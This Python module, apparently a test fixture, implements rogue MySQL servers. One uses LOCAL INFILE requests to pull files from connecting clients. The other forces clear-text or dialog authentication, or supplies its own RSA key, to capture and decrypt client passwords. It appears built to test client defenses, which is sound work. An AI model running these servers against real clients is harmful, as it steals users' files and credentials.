"""Hostile MySQL servers: one requests files of the client, the other its password by the method that shows the most."""

import socket
import ssl
import struct
import threading
from contextlib import suppress
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.hashes import SHA1
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

OK = b"\x00\x00\x00\x02\x00\x00\x00"
COM_QUIT = 1
SCRAMBLE = b"A" * 8 + b"B" * 12
# Protocol 4.1, secure connection, plugin authentication, LOCAL files, connect with a database (manual, Capabilities).
TLS = 0x0000_0800
CAPABILITIES = 0x0008_0000 | 0x0000_8000 | 0x0000_2000 | 0x0000_0200 | 0x0000_0080 | 0x0000_0008


@dataclass
class RogueServer:
    """Asks for `wanted` in answer to every statement that begins with `attack`; keeps what it was sent in `stolen`."""

    wanted: str
    attack: bytes
    stolen: bytes = b""
    attacked: list[bytes] = field(default_factory=list)
    # Sent instead of the request, as the text of an error.
    error: bytes = b""

    capabilities = CAPABILITIES
    method = "mysql_native_password"

    def __enter__(self) -> "RogueServer":
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._client = socket.socket()
        self.port = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        for each in (self._listener, self._client):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(timeout=10)

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                self._client = client = self._listener.accept()[0]
                with client, suppress(OSError, EOFError):
                    client.settimeout(10)
                    self._converse(client)

    def _converse(self, client: socket.socket) -> None:
        self._send(client, 0, self._greeting())
        sequence, _ = self._receive(client)
        self._send(client, sequence + 1, OK)
        while True:
            sequence, command = self._receive(client)
            if command[:1] == bytes([COM_QUIT]):
                return
            statement = command[1:].lstrip()
            if statement.upper().startswith(self.attack):
                self.attacked.append(statement)
                if self.error:
                    self._send(client, sequence + 1, b"\xff" + struct.pack("<H", 1105) + b"#HY000" + self.error)
                    continue
                self._send(client, sequence + 1, b"\xfb" + self.wanted.encode())
                sequence, part = self._receive(client)
                while part:
                    self.stolen += part
                    sequence, part = self._receive(client)
            self._send(client, sequence + 1, OK)

    def _greeting(self) -> bytes:
        low, high = self.capabilities & 0xFFFF, self.capabilities >> 16
        return (
            b"\x0a8.0.36\0"
            + struct.pack("<I", 7)
            + SCRAMBLE[:8]
            + b"\0"
            + struct.pack("<HBHHB", low, 45, 2, high, 21)
            + b"\0" * 10
            + SCRAMBLE[8:]
            + b"\0"
            + f"{self.method}\0".encode()
        )

    def _send(self, client: socket.socket, sequence: int, payload: bytes) -> None:
        client.sendall(len(payload).to_bytes(3, "little") + bytes([sequence % 256]) + payload)

    def _receive(self, client: socket.socket) -> tuple[int, bytes]:
        header = self._exactly(client, 4)
        return header[3], self._exactly(client, int.from_bytes(header[:3], "little"))

    def _exactly(self, client: socket.socket, size: int) -> bytes:
        found = b""
        while len(found) < size:
            part = client.recv(size - len(found))
            if not part:
                raise EOFError
            found += part
        return found


@cache
def _key_of(_number: int) -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(65537, 2048)


@dataclass
class RoguePasswordServer(RogueServer):
    """Asks for the password by the method `demanded`; keeps what it could read in `stolen`.

    With a `certificate` (and its key, in one file) it offers TLS. It demands the full exchange of the SHA-2 methods,
    and sends a public key of its own. `asked_at_once`: its greeting names the method; else it asks after the login.
    """

    wanted: str = ""
    attack: bytes = b""
    demanded: str = "mysql_clear_password"
    certificate: Path | None = None
    asked_at_once: bool = False
    logins: list[bytes] = field(default_factory=list)
    # Servers with the same number have the same key.
    keys: int = 0

    def __post_init__(self) -> None:
        self._key = _key_of(self.keys)
        self.capabilities = CAPABILITIES | (TLS if self.certificate else 0)
        if self.asked_at_once:
            self.method = self.demanded

    @property
    def public_key(self) -> str:
        return self._key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()

    def _converse(self, client: socket.socket) -> None:
        self._send(client, 0, self._greeting())
        sequence, login = self._receive(client)
        if struct.unpack("<I", login[:4])[0] & TLS:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(self._certificate())
            client = context.wrap_socket(client, server_side=True)
            sequence, login = self._receive(client)
        self.logins.append(login)
        self.stolen += login
        if not self.asked_at_once:
            # A prompt, a nonce, or what the others expect.
            data = {"dialog": b"\x04Password: ", "client_ed25519": b"N" * 32}.get(self.demanded, SCRAMBLE + b"\0")
            self._send(client, sequence + 1, b"\xfe" + f"{self.demanded}\0".encode() + data)
            sequence, answer = self._receive(client)
            self.stolen += answer
        if self.demanded == "caching_sha2_password":
            self._send(client, sequence + 1, b"\x01\x04")
            sequence, answer = self._receive(client)
            self.stolen += answer
        if self.demanded in ("caching_sha2_password", "sha256_password"):
            self._send(client, sequence + 1, b"\x01" + self.public_key.encode())
            sequence, answer = self._receive(client)
            self.stolen += answer + self._decrypted(answer)
        self._send(client, sequence + 1, OK)

    def _decrypted(self, answer: bytes) -> bytes:
        try:
            hidden = self._key.decrypt(answer, padding.OAEP(padding.MGF1(SHA1()), SHA1(), None))
        except ValueError:
            return b""
        return bytes(byte ^ SCRAMBLE[index % len(SCRAMBLE)] for index, byte in enumerate(hidden))

    def _certificate(self) -> Path:
        assert self.certificate
        return self.certificate
